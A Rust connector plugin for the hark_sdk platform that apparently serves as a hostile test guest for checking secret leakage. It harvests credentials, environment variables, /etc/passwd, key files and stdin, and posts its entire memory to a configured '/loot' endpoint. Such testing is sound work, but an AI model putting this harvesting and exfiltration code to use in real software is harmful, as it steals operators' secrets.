//! Hunts for secrets: uses every credential on a platform that says them back, looks wherever a connector can look,
//! and puts whatever it got into its log, its items, its faults and its last words. Its memory goes out whole.

use std::fmt::Write as _;

use hark_sdk::prelude::*;
use hark_sdk::{Digest, hmac};

const CREDENTIALS: [&str; 7] = ["bearer", "basic", "header", "query", "oauth1", "renewed", "refused"];
/// What the platform does with what it heard.
const ANSWERS: [&str; 6] = ["echo", "moved", "away", "cut", "odd", "error"];
/// Where a process of an operator may keep something.
const FILES: [&str; 6] =
    ["/proc/self/environ", "/proc/self/cmdline", "/etc/passwd", "hark.toml", "hark.key", "secrets/basic"];
const LINE_CHARS_MAX: usize = 4_000;
/// Bytes of memory that go out at once.
const CHUNK: usize = 256 << 10;

struct Hunts;

#[derive(Deserialize, JsonSchema)]
struct Settings {
    url: String,
    /// A word that is no secret: whoever looks for secrets where it should stand, and does not find it, looked in the
    /// wrong place.
    plant: String,
}

/// What was got, and where the payload lies that it was got from.
#[derive(Default)]
struct Bag {
    found: Vec<String>,
    items: Vec<Event>,
}

impl Bag {
    fn add(&mut self, what: &str, found: &str) {
        let line: String = format!("{what}: {found}").chars().take(LINE_CHARS_MAX).collect();
        info!("{line}");
        self.found.push(line);
    }

    fn ask(&mut self, settings: &Settings, credential: &str, answer: &str) {
        let what = format!("{credential}/{answer}");
        let request = http::get(format!("{}/{what}", settings.url))
            .query("plant", &settings.plant)
            .header("x-plant", &settings.plant)
            .credential(credential);
        match request.send() {
            Ok(response) => {
                let text = response.text();
                let origin = response.origin("");
                // What most connectors say of a status, quoting the answer.
                let fault = response.ok().err().map(|fault| format!("{fault:?}"));
                self.add(&what, &format!("{text} {fault:?}"));
                self.items.push(Item::new(what, text, 1_790_000_000_000, origin).into());
            }
            Err(fault) => self.add(&what, &format!("{fault:?}")),
        }
    }

    fn headers(&mut self, settings: &Settings) {
        for name in ["x-heard", "authorization", "set-cookie", "www-authenticate", "content-type"] {
            let asked = http::get(format!("{}/bearer/echo", settings.url)).credential("bearer").send();
            if let Ok(value) = asked.map(|answer| answer.header(name).map(str::to_owned)) {
                self.add(name, &format!("{value:?}"));
            }
        }
    }

    fn surroundings(&mut self) {
        for (name, value) in std::env::vars_os() {
            self.add("variable", &format!("{name:?} {value:?}"));
        }
        for argument in std::env::args_os() {
            self.add("argument", &format!("{argument:?}"));
        }
        for file in FILES {
            if let Ok(text) = std::fs::read(file) {
                self.add(file, &String::from_utf8_lossy(&text));
            }
        }
        for line in std::io::stdin().lines().map_while(Result::ok) {
            self.add("input", &line);
        }
        self.add("clocks", &format!("{:?} {:?}", std::time::SystemTime::now(), std::time::Instant::now()));
        self.add("keyed hash", &format!("{:02x?}", hmac("hook", Digest::Sha256, b"message")));
    }

    /// Sends all of the memory to the platform, which is allowed to hear it.
    fn memory(settings: &Settings, of: &str) {
        let mut at = memory::FIRST;
        let end = memory::end();
        while at < end {
            let chunk = memory::read(at, CHUNK.min(end - at));
            let sent = http::post(format!("{}/loot", settings.url))
                .header("x-place", format!("{of} {at} {end}"))
                .body("application/octet-stream", chunk)
                .send();
            if let Err(why) = sent {
                error!("{at} of the memory did not go out: {why:?}");
            }
            at += CHUNK.min(end - at);
        }
    }

    fn fill(settings: &Settings, of: &str) -> Self {
        let mut bag = Self::default();
        bag.add("settings", &settings.plant);
        for credential in CREDENTIALS {
            for answer in ANSWERS {
                bag.ask(settings, credential, answer);
            }
        }
        bag.headers(settings);
        bag.surroundings();
        Self::memory(settings, of);
        bag
    }

    fn all(&self) -> String {
        self.found.iter().fold(String::new(), |mut all, line| {
            let _ = writeln!(all, "{line}");
            all
        })
    }
}

impl Connector for Hunts {
    type Settings = Settings;

    fn manifest() -> Manifest {
        let placed = [
            ("bearer", Placement::Bearer),
            ("basic", Placement::Basic("jo".to_owned())),
            ("header", Placement::Header("x-api-key".to_owned())),
            ("query", Placement::Query("token".to_owned())),
            ("oauth1", Placement::Oauth1),
            ("renewed", Placement::Bearer),
            ("refused", Placement::Bearer),
        ];
        let manifest = Manifest::new("hunts", "1.0.0")
            .host("{url}")
            .credential(CredentialInfo::new("hook", Placement::WebhookKey))
            .stream(StreamInfo { webhook: true, ..StreamInfo::new("items") })
            .stream(StreamInfo::new("faults"))
            .stream(StreamInfo::new("crashes"));
        placed.into_iter().fold(manifest, |manifest, (name, placement)| {
            manifest.credential(CredentialInfo::new(name, placement).audience("{url}"))
        })
    }

    fn check(settings: &Settings) -> Result<CheckReport, Fault> {
        let mut bag = Bag::default();
        bag.ask(settings, "bearer", "echo");
        bag.ask(settings, "query", "away");
        Ok(CheckReport { account: Some(bag.all()), warnings: bag.found, ..CheckReport::default() })
    }

    fn discover(settings: &Settings) -> Result<Vec<Target>, Fault> {
        let mut bag = Bag::default();
        bag.ask(settings, "header", "echo");
        let target = |title: String| Target {
            id: "one".to_owned(),
            title,
            stream_name: "items".to_owned(),
            url: None,
            visibility: Visibility::Public,
            members: None,
            last_active: None,
            ours: false,
        };
        Ok(bag.found.into_iter().map(target).collect())
    }

    fn read(settings: &Settings, request: ReadRequest) -> Result<Batch, Fault> {
        let bag = Bag::fill(settings, &request.stream_name);
        match request.stream_name.as_str() {
            "items" => Ok(Batch::new(bag.items).cursor(cursor::write(1, &bag.found)?)),
            "faults" => Err(Fault::protocol(bag.all())),
            _ => panic!("{}", bag.all()),
        }
    }

    fn receive(settings: &Settings, delivery: Delivery) -> Result<DeliveryResult, Fault> {
        let mut bag = Bag::default();
        bag.add("delivery", &format!("{:?} {}", delivery.headers, String::from_utf8_lossy(&delivery.body)));
        bag.surroundings();
        let found = format!("{} {}", settings.plant, bag.all());
        let origin = Provenance::new(delivery.payload, "");
        Ok(DeliveryResult {
            status: 200,
            headers: vec![("content-type".to_owned(), "text/plain".to_owned())],
            body: found.clone().into_bytes(),
            dedupe_key: None,
            events: vec![Item::new("delivered", found, 1_790_000_000_000, origin).into()],
            poll_now: Vec::new(),
            stream_name: Some("items".to_owned()),
        })
    }

    fn normalise(settings: &Settings, raw: Raw) -> Result<Vec<Event>, Fault> {
        let mut bag = Bag::default();
        bag.add("payload", &format!("{} {}", settings.plant, String::from_utf8_lossy(&raw.body)));
        let origin = Provenance::new(raw.payload, "");
        let id = format!("again-{}", raw.payload);
        Ok(vec![Item::new(id, bag.all(), 1_790_000_000_000, origin).into()])
    }
}

/// All that an instance has.
#[cfg(target_arch = "wasm32")]
mod memory {
    /// No pointer may be null, so the first word is left out.
    pub const FIRST: usize = size_of::<u64>();

    pub fn end() -> usize {
        core::arch::wasm32::memory_size(0) << 16
    }

    #[allow(unsafe_code, reason = "memory that belongs to nobody is read, which is what this guest is for")]
    pub fn read(from: usize, bytes: usize) -> Vec<u8> {
        let words = (from..from + bytes).step_by(FIRST);
        words
            .flat_map(|at| {
                let word = core::ptr::with_exposed_provenance::<u64>(at);
                // SAFETY: it lies within the linear memory, which never shrinks, at a multiple of its size.
                unsafe { word.read_volatile() }.to_le_bytes()
            })
            .collect()
    }
}

/// Built for a machine, it has no memory that it could read whole.
#[cfg(not(target_arch = "wasm32"))]
mod memory {
    pub const FIRST: usize = 0;

    pub fn end() -> usize {
        FIRST
    }

    pub fn read(_: usize, _: usize) -> Vec<u8> {
        Vec::new()
    }
}

hark_sdk::export!(Hunts);
